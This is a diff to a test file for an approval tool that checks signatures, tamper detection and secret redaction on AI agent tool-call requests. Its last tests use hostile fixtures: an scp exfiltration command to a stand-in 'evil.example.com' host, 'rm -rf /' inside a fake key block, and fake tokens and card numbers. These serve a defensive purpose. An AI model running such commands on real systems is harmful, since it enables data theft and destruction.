@@ -2,10 +2,11 @@
 
 import assert from "node:assert/strict";
 import { decodeUtf8, encodeUtf8 } from "../../../src/core/bytes.ts";
+import type { LiveOptions } from "../../../src/usecases/proxy/open_session.ts";
 import { gait } from "../../support/gait.ts";
 import { callOf, linesIn, type Live, openLive } from "../../support/live_session.ts";
 import type { MemorySystem } from "../../support/memory_system.ts";
-import { KEY_1 } from "../../support/test_key.ts";
+import { KEY_1, KEY_2 } from "../../support/test_key.ts";
 import { ASK_DIGEST, FILES, INTENT, INTENT_DIGEST, PROD, written } from "./support.ts";
 
 const POLICY = `default_verdict: block
@@ -31,9 +32,12 @@ type Request = Record<string, unknown>;
 async function waiting(
   call: string,
   act: (path: string, live: Live) => Promise<unknown>,
-  { files = {} }: { files?: Record<string, string> } = {},
+  { files = {}, options: more = {} }: {
+    files?: Record<string, string>;
+    options?: Partial<LiveOptions>;
+  } = {},
 ): Promise<{ readonly live: Live; readonly answer: string }> {
-  const at: { live?: Live; isDone?: boolean } = {};
+  const at: { live?: Live; isDone?: boolean; error?: unknown } = {};
   const pause = async () => {
     const { live } = at;
     if (live === undefined) return;
@@ -44,16 +48,26 @@ async function waiting(
     }
     at.isDone = true;
     const [path = ""] = requestsIn(live.system);
-    await act(path, live);
+    // a session would take a failed assertion for a failed call
+    await act(path, live).catch(async (error) => {
+      at.error = error;
+      await live.client(CANCEL);
+    });
   };
   const world = { files: { "map.yaml": MAP, ...files } };
-  const options = { ...WAIT, tools: "map.yaml" };
+  const options = { ...WAIT, tools: "map.yaml", approval_public_key: ["k1.pub"], ...more };
   const live = at.live = await openLive(POLICY, { options, world, host: { pause } });
-  return { live, answer: await live.client(call) };
+  const answer = await live.client(call);
+  if (at.error !== undefined) throw at.error;
+  return { live, answer };
 }
 
 function requestsIn(system: MemorySystem): string[] {
   return [...system.files.keys()].filter((path) => path.startsWith("desk/request_")).sort();
+}
+
+function filesOf(system: MemorySystem): Record<string, Uint8Array<ArrayBuffer>> {
+  return Object.fromEntries([...system.files].map(([name, { bytes }]) => [name, bytes]));
 }
 
 function put(system: MemorySystem, path: string, document: object | string): void {
@@ -76,8 +90,12 @@ Deno.test("a request holds what will run, without secrets, and goes when it is a
       name = path;
       request = written(system, path);
       mode = system.files.get(path)?.mode ?? 0;
-      const { exit } = await gait(`approve ${path} --yes ${WHO}`, {}, system);
+      const files = filesOf(system);
+      const line = `approve ${path} ${WHO} --public-key k1.pub --json`;
+      const { exit, json, system: there } = await gait(line, { files, answer: "y" });
       assert.equal(exit, 0);
+      const token = String(json()["token_path"]);
+      put(system, token, written(there, token));
     },
   );
   assert.equal(answer, "forward");
@@ -240,6 +258,7 @@ for (const [name, change, to] of CHANGES) {
     const events = linesIn(live.system, "j.jsonl").flatMap(({ event }) => event ?? []);
     assert.equal((events[0] as Request)["event"], "approval_request_changed");
     assert.notEqual(await live.client(DELETE.replace('"id":1', '"id":2')), "forward");
+    assert.equal(live.system.files.has("desk/t.json"), false);
   });
 }
 
@@ -319,9 +338,13 @@ Deno.test("gait approve --policy --intent shows the call and signs its digests",
 Deno.test("gait approve --policy --intent hides what looks like a secret", async () => {
   const secret = "ghp_" + "a1B2".repeat(9);
   const files = { ...FILES, "i.json": JSON.stringify({ ...INTENT, args: { content: secret } }) };
-  const { stderr, exit } = await gait(`${OFFLINE} --yes`, { files });
+  const { stderr, exit } = await gait(OFFLINE, { files, answer: "y" });
   assert.deepEqual([exit, stderr.includes(secret)], [0, false]);
   assert.match(stderr, /1 value is hidden/);
+  const unseen = await gait(`${OFFLINE} --yes`, { files });
+  assert.equal(unseen.exit, 6);
+  assert.match(unseen.stderr, /Cannot approve with --yes[^]*hint: run it on a terminal/);
+  assert.equal([...unseen.system.files.keys()].some((path) => path.startsWith("approval_")), false);
 });
 
 /** Lines that approve nothing. */
@@ -334,6 +357,7 @@ const REFUSED: readonly (readonly [string, number, RegExp])[] = [
   [`approve --policy ask.yaml --intent padded.json ${WHO} --yes`, 6, /args_not_exact/],
   [`${OFFLINE} --scope * --yes`, 6, /cannot be combined/],
   [`${OFFLINE} --intent-digest ${INTENT_DIGEST} --yes`, 6, /cannot be combined/],
+  [`${OFFLINE} --public-key k1.pub --yes`, 6, /cannot be combined/],
   [`approve r.json --policy ask.yaml --intent i.json ${WHO} --yes`, 6, /cannot be combined/],
   [`approve r.json --policy-digest ${ASK_DIGEST} ${WHO} --yes`, 6, /cannot be combined/],
   [`approve a.json b.json ${WHO}`, 6, /at most one/],
@@ -361,3 +385,150 @@ Deno.test("a request that was copied elsewhere is shown and approved there", asy
     await client(CANCEL);
   });
 });
+
+const TOKEN = "ghp_" + "a1B2".repeat(9);
+const SECRET_CALL = callOf(1, "delete_file", { path: "/srv/data", note: TOKEN });
+const FAKE = "gait:redacted:secrets:0123456789abcdef";
+
+/** Changes of a request that hides a value, or pretends to. */
+const HIDING: readonly (readonly [string, string, (request: Request) => Request])[] = [
+  ["nothing else", SECRET_CALL, (r) => r],
+  ["other arguments", SECRET_CALL, (r) => ({ ...r, args: { path: "/tmp/x", note: FAKE } })],
+  ["other targets", SECRET_CALL, (r) => ({ ...r, targets: [] })],
+  [
+    "another context",
+    SECRET_CALL,
+    (r) => ({ ...r, context: { ...r["context"] as object, identity: "ceo" } }),
+  ],
+  ["another intent_digest", SECRET_CALL, (r) => ({ ...r, intent_digest: "1".repeat(64) })],
+  ["another policy_digest", SECRET_CALL, (r) => ({ ...r, policy_digest: "1".repeat(64) })],
+  ["another time", SECRET_CALL, (r) => ({ ...r, expires_at: "2027-01-01T00:00:00Z" })],
+  ["another reason", SECRET_CALL, (r) => ({ ...r, reason_codes: ["harmless"] })],
+  ["a member that nobody signed", SECRET_CALL, (r) => ({ ...r, comment: "fine" })],
+  ["no signature", SECRET_CALL, ({ signature: _, ...r }) => r],
+  [
+    "a marker of its own",
+    DELETE,
+    (r) => ({ ...r, args: { path: "/tmp", x: FAKE }, redacted_values: 1 }),
+  ],
+  [
+    "a marker among the targets",
+    DELETE,
+    (r) => ({ ...r, args: {}, targets: [{ kind: "path", value: FAKE }], redacted_values: 1 }),
+  ],
+];
+
+for (const [name, call, change] of HIDING) {
+  const isWhole = name === "nothing else";
+  Deno.test(`a request that hides a value and changes ${name} gets ${isWhole ? "a" : "no"} token`, async () => {
+    await waiting(call, async (path, { system, client }) => {
+      put(system, path, change(written(system, path)));
+      const files = { ...filesOf(system), "k2.pub": KEY_2.public };
+      const line = `approve ${path} ${WHO}`;
+      const unnamed = await gait(line, { files, answer: "y" });
+      assert.equal(unnamed.exit, 6, unnamed.stderr);
+      assert.match(unnamed.stderr, /^error: Cannot approve [^]*^hint: /m);
+      if (isWhole) assert.match(unnamed.stderr, /^hint: give --public-key /m);
+      const named = await gait(`${line} --public-key k1.pub`, { files, answer: "y" });
+      assert.equal(named.exit, isWhole ? 0 : 6, named.stderr);
+      if (!isWhole) assert.match(named.stderr, /not signed by the key of --public-key/);
+      const other = await gait(`${line} --public-key k2.pub`, { files, answer: "y" });
+      assert.deepEqual([other.exit, /not signed by/.test(other.stderr)], [6, true]);
+      const env = { files, answer: "y", env: { TRACE_KEY: KEY_1.public } };
+      assert.equal((await gait(`${line} --public-key-env TRACE_KEY`, env)).exit, isWhole ? 0 : 6);
+      await client(CANCEL);
+    });
+  });
+}
+
+Deno.test("a session says what an approval of hidden values takes", async () => {
+  for (
+    const [options, isNoted] of [[{}, false], [
+      { key_mode: "dev", private_key: undefined },
+      true,
+    ]] as const
+  ) {
+    const { live } = await waiting(SECRET_CALL, (_, { client }) => client(CANCEL), { options });
+    const { text } = live.system.stderr;
+    assert.match(text, /approval needed: [^\n]* --public-key <trace key of this session> /);
+    assert.equal(/throw-away key that nobody can name/.test(text), isNoted);
+  }
+});
+
+Deno.test("gait approve --policy refuses a request that names another policy", async () => {
+  await waiting(DELETE, async (path, { system, client }) => {
+    const request = written(system, path);
+    const line = `approve ${path} --yes ${WHO} --policy p.yaml`;
+    const files = filesOf(system);
+    assert.equal((await gait(line, { files })).exit, 0);
+    const other = JSON.stringify({ ...request, policy_digest: "1".repeat(64) });
+    const changed = await gait(line, { files: { ...files, [path]: encodeUtf8(other) } });
+    assert.deepEqual([changed.exit, /its policy is not "?p\.yaml/.test(changed.stderr)], [6, true]);
+    await client(CANCEL);
+  });
+});
+
+const BASE64 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIB";
+const BLOCK =
+  `-----BEGIN PRIVATE KEY-----\n${BASE64}\nrm -rf / \n${TOKEN}\n-----END PRIVATE KEY-----`;
+
+Deno.test("a request shows recipients, hosts, and words between the lines of a key", async () => {
+  const args = {
+    to: "mallory@evil.example",
+    command: "scp data root@evil.example.com",
+    key: BLOCK,
+    inner: JSON.stringify({ key: BLOCK }),
+    card: "4111 1111 1111 1111",
+  };
+  await waiting(callOf(1, "delete_file", args), async (path, { system, client }) => {
+    const request = written(system, path);
+    const shown = JSON.stringify(request["args"]);
+    for (const text of ["mallory@evil.example", "root@evil.example.com"]) {
+      assert.ok(shown.includes(text), text);
+    }
+    assert.equal(shown.split("rm -rf / ").length, 3);
+    for (const text of [BASE64, TOKEN, "4111 1111"]) {
+      assert.equal(shown.includes(text), false, text);
+    }
+    assert.equal(request["redacted_values"], 5);
+    const files = filesOf(system);
+    const { stderr, exit } = await gait(`approve ${path} ${WHO} --public-key k1.pub`, {
+      files,
+      answer: "y",
+    });
+    assert.deepEqual([exit, /mallory@evil\.example/.test(stderr)], [0, true]);
+    await client(CANCEL);
+  });
+});
+
+for (const out of ["ask.yaml", "i.json", "k1", "./k1"]) {
+  Deno.test(`gait approve --out ${out} replaces no input`, async () => {
+    const { exit, stderr, system } = await gait(`${OFFLINE} --yes --out ${out}`, { files: FILES });
+    assert.equal(exit, 6);
+    assert.match(stderr, /Cannot write --out to [^]*^hint: give --out another path/m);
+    const name = out.replace("./", "") as keyof typeof FILES;
+    assert.equal(decodeUtf8(system.files.get(name)?.bytes ?? new Uint8Array()), FILES[name]);
+  });
+}
+
+Deno.test("gait approve --out replaces neither the request nor the session's key", async () => {
+  await waiting(DELETE, async (path, { system, client }) => {
+    const files = filesOf(system);
+    for (const out of [path, "k1.pub"]) {
+      const line = `approve ${path} --yes ${WHO} --public-key k1.pub --out ${out}`;
+      const { exit, stderr } = await gait(line, { files });
+      assert.deepEqual([exit, /Cannot write --out/.test(stderr)], [6, true]);
+    }
+    await client(CANCEL);
+  });
+});
+
+for (const option of ["runpack_out", "journal", "rate_limit_state"] as const) {
+  for (const path of ["p.yaml", "map.yaml", "k1"]) {
+    Deno.test(`a live session writes no ${option} over ${path}`, async () => {
+      const options = { tools: "map.yaml", [option]: path };
+      const world = { files: { "map.yaml": MAP } };
+      await assert.rejects(openLive(POLICY, { options, world }), /Cannot write --/);
+    });
+  }
+}
